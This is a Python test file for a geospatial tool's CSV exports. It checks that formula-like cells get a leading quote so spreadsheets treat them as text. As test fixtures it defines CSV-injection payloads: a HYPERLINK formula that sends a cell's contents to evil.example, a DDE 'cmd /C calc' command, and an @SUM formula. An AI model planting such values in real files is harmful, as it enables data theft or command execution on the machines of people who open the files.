"""Every CSV gridmap writes is safe to open in Excel or WPS (issue 13, item 12).

A text cell starting with ``= + - @``, tab or CR is a formula to a spreadsheet; gridmap prefixes
it with ``'`` (OWASP's advice), in ``gridmap export ... .csv``, ``gridmap locate --output`` and
the ``/locate`` CSV answer. The tests write real Kunming footprints with hostile names and
addresses, and read the CSVs back with Python's csv module, as a spreadsheet would see them.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import geopandas as gpd
import pandas as pd
import pytest
from api_support import bearer
from fastapi.testclient import TestClient
from typer.testing import CliRunner

from api.app import create_app
from api.cli import app
from api.settings import Settings
from geo.exchange.csvsafe import csv_safe, csv_safe_frame
from geo.storage.store import open_store

runner = CliRunner()
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
SUM = "@SUM(1+1)"
CMD = "-2+3+cmd|' /C calc'!A0"


def gridmap(*args: object):
    return runner.invoke(app, [str(a) for a in args], env={"GRIDMAP_LANG": "en"})


def read_back(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


@pytest.fixture
def hostile_project(kunming_path: Path, tmp_path: Path) -> Path:
    footprints = gpd.read_file(kunming_path)
    footprints.loc[0, "name"] = HYPERLINK
    footprints["address"] = ["+86 昆明"] + [SUM] * (len(footprints) - 1)
    source = tmp_path / "hostile.geojson"
    footprints.to_file(source)
    db = tmp_path / "hostile.gpkg"
    result = gridmap("import", source, "--community-field", "community", "--db", db)
    assert result.exit_code == 0, result.output
    return db


def test_formula_like_text_gets_a_leading_quote_and_numbers_do_not():
    assert csv_safe(HYPERLINK) == "'" + HYPERLINK
    assert csv_safe("\tx") == "'\tx"
    assert csv_safe("\r=1") == "'\r=1"
    assert csv_safe("-102.5") == "-102.5"
    assert csv_safe("+86") == "+86"
    assert csv_safe("北泰花园") == "北泰花园"
    assert csv_safe(-3) == -3


def test_a_frame_keeps_its_numbers_and_neutralises_its_text_and_headers():
    frame = pd.DataFrame({"=x": [SUM, "ok", None], "n": [1, -2, 3]})
    safe = csv_safe_frame(frame)
    assert list(safe.columns) == ["'=x", "n"]
    assert safe["'=x"].iloc[:2].tolist() == ["'" + SUM, "ok"]
    assert pd.isna(safe["'=x"].iloc[2])
    assert safe["n"].tolist() == [1, -2, 3]
    assert frame["=x"].iloc[:2].tolist() == [SUM, "ok"]  # the caller's frame is left alone


def test_a_csv_export_neutralises_names_and_addresses(hostile_project, tmp_path):
    target = tmp_path / "buildings.csv"
    result = gridmap("export", target, "--layer", "buildings", "--db", hostile_project)
    assert result.exit_code == 0, result.output
    rows = read_back(target.read_text(encoding="utf-8"))
    assert len(rows) == 140
    names = {row["name"] for row in rows}
    assert "'" + HYPERLINK in names
    assert HYPERLINK not in names
    addresses = [row["address"] for row in rows]
    assert addresses.count("'" + SUM) == 139
    assert "'+86 昆明" in addresses
    assert all(not row["WKT"].startswith("'") for row in rows)


def test_a_geojson_export_keeps_the_text_exactly(hostile_project, tmp_path):
    target = tmp_path / "buildings.geojson"
    assert gridmap("export", target, "--db", hostile_project).exit_code == 0
    assert HYPERLINK in set(gpd.read_file(target)["name"])


def test_locate_output_csv_neutralises_the_input_columns(kunming_project_base, tmp_path):
    buildings = open_store(kunming_project_base).read_layer("buildings").to_crs(4326)
    points = buildings.geometry.representative_point().iloc[:3]
    source, target = tmp_path / "points.csv", tmp_path / "located.csv"
    pd.DataFrame({"note": [CMD, "ok", SUM], "lon": points.x, "lat": points.y}).to_csv(
        source, index=False
    )
    result = gridmap("locate", "--input", source, "--output", target, "--db", kunming_project_base)
    assert result.exit_code == 0, result.output
    rows = read_back(target.read_text(encoding="utf-8"))
    assert [row["note"] for row in rows] == ["'" + CMD, "ok", "'" + SUM]
    assert [float(row["lon"]) for row in rows] == pytest.approx(points.x.tolist())
    assert {row["status"] for row in rows} == {"in_building"}


def test_the_locate_csv_answer_neutralises_cells(api_db, api_tokens):
    store = open_store(api_db)
    points = store.read_layer("buildings").to_crs(4326).geometry.representative_point()
    batch = pd.DataFrame(
        {"note": [HYPERLINK, "-5", "\t=1"], "x": points.x.iloc[:3], "y": points.y.iloc[:3]}
    )
    with TestClient(create_app(Settings(db=api_db))) as client:
        answer = client.post(
            "/locate",
            params={"lon_col": "x", "lat_col": "y"},
            content=batch.to_csv(index=False).encode(),
            headers={**bearer(api_tokens["staff"]), "content-type": "text/csv"},
        )
    assert answer.status_code == 200, answer.text
    rows = read_back(answer.text)
    assert [row["note"] for row in rows] == ["'" + HYPERLINK, "-5", "'\t=1"]
    assert [float(row["x"]) for row in rows] == pytest.approx(points.x.iloc[:3].tolist())
